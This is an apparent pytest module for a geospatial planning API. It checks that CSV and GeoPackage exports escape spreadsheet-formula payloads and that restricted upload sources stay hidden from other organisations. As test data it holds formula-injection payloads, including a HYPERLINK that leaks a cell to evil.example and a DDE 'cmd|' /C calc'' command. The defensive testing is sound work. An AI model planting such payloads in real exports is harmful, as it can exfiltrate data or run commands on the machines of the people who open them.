"""Spreadsheet formulas in every export, and the data sources a report lists (real Rutland).

Organisation A uploads restricted assets beside Oakham whose names and owners are the
formula payloads of the hardening issue (``=HYPERLINK(...)``, ``+SUM(1,2)``,
``-2+3*cmd|' /C calc'!A0``, ``@SUM(A1)``, formulas behind a tab and a carriage return, a
telephone number),
of a kind (``formula_clinic``) and owner type (``formula_test``) of their own, so every run
below is about them alone. The stored travel times are recomputed with them; A then runs
co-location (report and process), hub siting and two scenario evaluations (one scenario
named by a formula, closing one of the sites and opening a formula-named one) and compares
them.

Every CSV those give (the co-location report's zip, the co-location and hub-siting job CSVs,
the scenario zip, the comparison) and every GeoPackage text attribute must show each payload
escaped (a leading ``'``; a leading tab kept, not trimmed) and no cell a spreadsheet would
run, while numbers (negative longitudes) stay numbers.

The first evaluation is public: its report, downloads and JSON list A's upload among their
data sources for A only, never for another organisation or an anonymous caller.
"""

from __future__ import annotations

import csv
import io
import sqlite3
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, text

from app.main import create_app
from store.keys import create_api_key
from tests.api._support import auth, run_job_here, two_org_keys
from tests.conftest import database_for, settings_for

pytestmark = pytest.mark.timeout(1800)

ORG_A, ORG_B = "exports-org-a", "exports-org-b"
ADMIN_ORG = "exports-admin"
KIND, OWNER_TYPE = "formula_clinic", "formula_test"
UPLOAD_FILE = "exports-secret-plan.csv"
#: Oakham (WGS84); the assets sit within 200 m of it.
LON, LAT = -0.7300, 52.6710
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
SUM = "+SUM(1,2)"
CMD = "-2+3*cmd|' /C calc'!A0"
AT = "@SUM(A1)"
TAB = "\t=1+1"
CR = "\r=2+2"
PHONE = "+44 1572 000000 helpline"
#: (asset id, name, owner, tenure, dlon, dlat): a freehold host and five neighbours.
ASSETS = (
    ("F1", HYPERLINK, AT, "freehold", 0.0, 0.0),
    ("F2", SUM, CMD, "leasehold", 0.0010, 0.0004),
    ("F3", CMD, HYPERLINK, "leasehold", -0.0008, 0.0006),
    ("F4", AT, SUM, "leasehold", 0.0006, -0.0007),
    ("F5", TAB, "Oakham Town Partnership", "leasehold", -0.0012, -0.0003),
    ("F6", PHONE, "Rutland Carers", "leasehold", 0.0004, 0.0011),
    ("F7", CR, "Oakham Library Friends", "leasehold", -0.0004, -0.0011),
)
NAMES = tuple(a[1] for a in ASSETS)
SCENARIO_A = '=HYPERLINK("http://evil.example","plan A")'
SCENARIO_B = "+SUM(1,1) plan B"
NEW_SITE = "@SUM(9,9) new hub"
#: Cells that must appear exactly so in the exports (escaped payloads).
ESCAPED = {f"'{n}" for n in NAMES}
_RUNS = ("=", "+", "-", "@")


def _runs_in_a_spreadsheet(cell: str) -> bool:
    """True for a cell a spreadsheet would evaluate (the OWASP rule), numbers aside."""
    if not cell:
        return False
    try:
        float(cell)
        return False  # a number written as a number (e.g. a longitude of -0.73)
    except ValueError:
        pass
    return cell.startswith(("\t", "\r")) or cell.lstrip().startswith(_RUNS)


def _csv_cells(text_of: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text_of, newline="")) for cell in row]


def _zip_cells(content: bytes) -> dict[str, list[str]]:
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        return {
            n: _csv_cells(zf.read(n).decode("utf-8")) for n in zf.namelist() if n.endswith(".csv")
        }


def _gpkg_text_cells(content: bytes, tmp_path: Path) -> dict[str, list[str]]:
    """Every text value (and column name) of every layer of a GeoPackage."""
    path = tmp_path / "export.gpkg"
    path.write_bytes(content)
    out: dict[str, list[str]] = {}
    with sqlite3.connect(path) as db:
        layers = [r[0] for r in db.execute("SELECT table_name FROM gpkg_contents")]
        for layer in layers:
            cur = db.execute(f'SELECT * FROM "{layer}"')
            names = [d[0] for d in cur.description]
            values = [v for row in cur.fetchall() for v in row if isinstance(v, str)]
            out[layer] = names + values
    return out


def _assert_escaped(where: str, cells: list[str], expected: set[str]) -> None:
    live = [c for c in cells if _runs_in_a_spreadsheet(c)]
    assert not live, f"{where}: cells a spreadsheet would run: {live}"
    missing = {e for e in expected if e not in cells}
    assert not missing, f"{where}: escaped cells missing: {sorted(missing)}"


@dataclass
class World:
    client: TestClient
    a: dict[str, str]
    b: dict[str, str]
    site_ids: dict[str, int] = field(default_factory=dict)
    jobs: dict[str, str] = field(default_factory=dict)


def _upload(client: TestClient, headers: dict[str, str]) -> None:
    out = io.StringIO()
    # CRLF rows: the writer then quotes the name holding a carriage return.
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["asset_id", "name", "kind", "owner", "owner_type", "tenure", "lon", "lat"])
    for asset_id, name, owner, tenure, dlon, dlat in ASSETS:
        row = [asset_id, name, KIND, owner, OWNER_TYPE, tenure, f"{LON + dlon:.6f}"]
        writer.writerow([*row, f"{LAT + dlat:.6f}"])
    r = client.post(
        "/estate/assets",
        files={"file": (UPLOAD_FILE, out.getvalue().encode(), "text/csv")},
        data={"restricted": "true"},
        headers=headers,
    )
    assert r.status_code == 201, r.text
    assert r.json()["rows_loaded"] == len(ASSETS)


def _forget(engine: Engine) -> None:
    """Remove everything this module wrote (also what an interrupted run left)."""
    with engine.begin() as conn:
        orgs = {"o": [ORG_A, ORG_B, ADMIN_ORG]}
        conn.execute(text("DELETE FROM jobs WHERE organisation = ANY(:o)"), orgs)
        conn.execute(text("DELETE FROM scenarios WHERE organisation = ANY(:o)"), orgs)
        conn.execute(text("DELETE FROM sites WHERE source = :d"), {"d": f"assets:{ORG_A}"})
        conn.execute(text("DELETE FROM data_loads WHERE dataset = :d"), {"d": f"assets:{ORG_A}"})


def _evaluate(w: World, name: str, changes: list[dict[str, Any]], *, public: bool) -> str:
    saved = w.client.post("/scenarios", json={"name": name, "changes": changes}, headers=w.a)
    assert saved.status_code == 201, saved.text
    inputs = {"scenario_id": saved.json()["id"], "kinds": [KIND], "modes": ["drive"]}
    return run_job_here(
        w.client,
        "scenario-evaluation",
        {**inputs, "bands": [5, 10, 20]},
        w.a,
        restricted=not public,
    )


@pytest.fixture(scope="module")
def world(rutland_env: str, rutland_engine: Engine) -> Iterator[World]:
    # rutland_env: jobs run in this process read their database from the environment.
    keys = two_org_keys(rutland_engine, "exports-")
    admin = auth(create_api_key(database_for(rutland_env), ADMIN_ORG, "admin"))
    _forget(rutland_engine)
    try:
        with TestClient(create_app(settings_for(rutland_env))) as client:
            w = World(client=client, a=auth(keys["a"]), b=auth(keys["b"]))
            _upload(client, w.a)
            with rutland_engine.connect() as conn:
                rows = conn.execute(
                    text("SELECT source_id, id FROM sites WHERE source = :d"),
                    {"d": f"assets:{ORG_A}"},
                ).all()
            w.site_ids = {str(s): int(i) for s, i in rows}
            # The stored matrices hold times to A's sites too (as a data refresh would).
            run_job_here(client, "travel-times", {}, admin)
            coloc = {"method": "distance", "max_distance_m": 400, "owner_types": [OWNER_TYPE]}
            w.jobs["colocation"] = run_job_here(client, "colocation", coloc, w.a)
            hub = {"p": 1, "mode": "drive", "candidates": [KIND]}
            w.jobs["hub-siting"] = run_job_here(client, "hub-siting", hub, w.a)
            opened = {"type": "open_site", "site_id": "new-f", "name": NEW_SITE}
            opened |= {"lon": LON + 0.01, "lat": LAT, "gia_m2": 400}
            w.jobs["scenario-a"] = _evaluate(
                w,
                SCENARIO_A,
                [{"type": "close_sites", "site_ids": ["F2"]}, opened],
                public=True,
            )
            w.jobs["scenario-b"] = _evaluate(
                w, SCENARIO_B, [{"type": "close_sites", "site_ids": ["F3"]}], public=False
            )
            yield w
    finally:
        _forget(rutland_engine)


def test_upload_keeps_the_names_as_given(world: World, rutland_engine: Engine) -> None:
    """The register stores the names unchanged (a leading tab is kept, not trimmed into a
    bare formula); escaping is the exports' job."""
    with rutland_engine.connect() as conn:
        names = conn.execute(
            text("SELECT name FROM sites WHERE source = :d ORDER BY source_id"),
            {"d": f"assets:{ORG_A}"},
        ).scalars()
        assert tuple(names) == NAMES


def test_colocation_report_csv_and_geopackage_escape_formulas(world: World, tmp_path: Path) -> None:
    params = {"max_distance_m": 400, "owner_type": OWNER_TYPE, "top": 5}
    r = world.client.get(
        "/estate/colocation/report", params={**params, "f": "csv"}, headers=world.a
    )
    assert r.status_code == 200, r.text[:300]
    tables = _zip_cells(r.content)
    assert set(tables) == {"clusters.csv", "cluster_members.csv"}
    _assert_escaped("cluster_members.csv", tables["cluster_members.csv"], ESCAPED)
    # The host's name is the cluster's seed name; the owners column starts with a formula.
    _assert_escaped("clusters.csv", tables["clusters.csv"], {f"'{HYPERLINK}"})
    # Coordinates of the members stay numbers (negative longitudes are not escaped).
    assert any(c.startswith("POINT (") for c in tables["cluster_members.csv"])
    g = world.client.get(
        "/estate/colocation/report", params={**params, "f": "gpkg"}, headers=world.a
    )
    assert g.status_code == 200
    layers = _gpkg_text_cells(g.content, tmp_path)
    _assert_escaped("colocation.gpkg cluster_members", layers["cluster_members"], ESCAPED)
    _assert_escaped("colocation.gpkg clusters", layers["clusters"], {f"'{HYPERLINK}"})


def test_colocation_job_csv_escapes_formulas(world: World) -> None:
    job = world.jobs["colocation"]
    r = world.client.get(f"/jobs/{job}/results", params={"f": "csv"}, headers=world.a)
    assert r.status_code == 200, r.text[:300]
    cells = _csv_cells(r.text)
    owners = {f"'{a[2]}" for a in ASSETS if a[2].lstrip().startswith(_RUNS)}
    _assert_escaped("colocation-members.csv", cells, ESCAPED | owners)
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == len(ASSETS)
    # Numbers are written as numbers: every longitude is negative and parses.
    assert all(float(row["lon"]) < 0 for row in rows)


def test_hub_siting_csv_and_geopackage_escape_formulas(world: World, tmp_path: Path) -> None:
    job = world.jobs["hub-siting"]
    res = world.client.get(f"/jobs/{job}/results", headers=world.a).json()
    (chosen,) = res["chosen"]
    assert chosen["name"] in NAMES
    r = world.client.get(f"/jobs/{job}/results", params={"f": "csv"}, headers=world.a)
    assert r.status_code == 200
    cells = _csv_cells(r.text)
    _assert_escaped("hub-siting-assignment.csv", cells, {f"'{chosen['name']}"})
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == len(res["assignment"]) > 0
    assert {row["site_name"] for row in rows} == {f"'{chosen['name']}"}
    g = world.client.get(f"/jobs/{job}/results", params={"f": "gpkg"}, headers=world.a)
    layers = _gpkg_text_cells(g.content, tmp_path)
    _assert_escaped("hub-siting.gpkg chosen_sites", layers["chosen_sites"], {f"'{chosen['name']}"})
    _assert_escaped("hub-siting.gpkg assignment", layers["assignment"], {f"'{chosen['name']}"})


def test_scenario_csv_zip_and_geopackage_escape_formulas(world: World, tmp_path: Path) -> None:
    job = world.jobs["scenario-a"]
    r = world.client.get(f"/jobs/{job}/results", params={"f": "csv"}, headers=world.a)
    assert r.status_code == 200, r.text[:300]
    tables = _zip_cells(r.content)
    assert {"summary.csv", "estate.csv", "sites.csv"} <= set(tables)
    for name, cells in tables.items():
        _assert_escaped(name, cells, set())
    # Every baseline site (the formula clinics) and the opened one, escaped.
    _assert_escaped("sites.csv", tables["sites.csv"], ESCAPED | {f"'{NEW_SITE}"})
    g = world.client.get(f"/jobs/{job}/results", params={"f": "gpkg"}, headers=world.a)
    layers = _gpkg_text_cells(g.content, tmp_path)
    for name, cells in layers.items():
        _assert_escaped(f"scenario.gpkg {name}", cells, set())
    _assert_escaped("scenario.gpkg sites", layers["sites"], ESCAPED | {f"'{NEW_SITE}"})


def test_comparison_csv_escapes_scenario_names(world: World) -> None:
    params = {"a": world.jobs["scenario-a"], "b": world.jobs["scenario-b"], "f": "csv"}
    r = world.client.get("/scenarios/compare", params=params, headers=world.a)
    assert r.status_code == 200, r.text[:300]
    assert r.headers["content-type"].startswith("text/csv")
    header = next(csv.reader(io.StringIO(r.text)))
    assert header == [
        "mode",
        "metric",
        "baseline",
        f"'{SCENARIO_A} v1",
        f"'{SCENARIO_B} v1",
        "difference",
    ]
    _assert_escaped("scenario-comparison.csv", _csv_cells(r.text), set())
    # The figures are the JSON's, written as numbers.
    body = world.client.get(
        "/scenarios/compare", params={**params, "f": "json"}, headers=world.a
    ).json()
    rows = list(csv.reader(io.StringIO(r.text)))[1:]
    assert len(rows) == len(body["rows"])
    first = body["rows"][0]
    assert float(rows[0][2]) == pytest.approx(first["baseline"])


def test_a_public_reports_sources_are_the_callers(world: World) -> None:
    """A's public evaluation recorded A's restricted upload among its sources: A sees it in
    the report, the downloads and the JSON; another organisation and anonymous callers see
    the same results without it."""
    job = world.jobs["scenario-a"]
    upload = f"assets:{ORG_A}"
    callers = {"a": world.a, "b": world.b, "anonymous": {}}
    for who, headers in callers.items():
        html = world.client.get(f"/jobs/{job}/results", params={"f": "html"}, headers=headers)
        assert html.status_code == 200, (who, html.text[:300])
        assert "Data sources" in html.text
        meta = world.client.get(f"/jobs/{job}/results", headers=headers).json()["metadata"]
        datasets = {s[0] for s in meta["sources"]}
        files = {s[1] for s in meta["sources"]}
        # Open loads are listed for everyone.
        assert {"osm-network", "lsoa21"} <= datasets, who
        if who == "a":
            assert upload in datasets
            assert UPLOAD_FILE in files
            assert UPLOAD_FILE in html.text
        else:
            assert upload not in datasets, who
            assert UPLOAD_FILE not in files, who
            for secret in (UPLOAD_FILE, upload, f"Uploaded by {ORG_A}"):
                assert secret not in html.text, (who, secret)
    # The other organisation's sources are exactly the anonymous caller's.
    b_meta = world.client.get(f"/jobs/{job}/results", headers=world.b).json()["metadata"]
    anon_meta = world.client.get(f"/jobs/{job}/results").json()["metadata"]
    assert b_meta["sources"] == anon_meta["sources"]
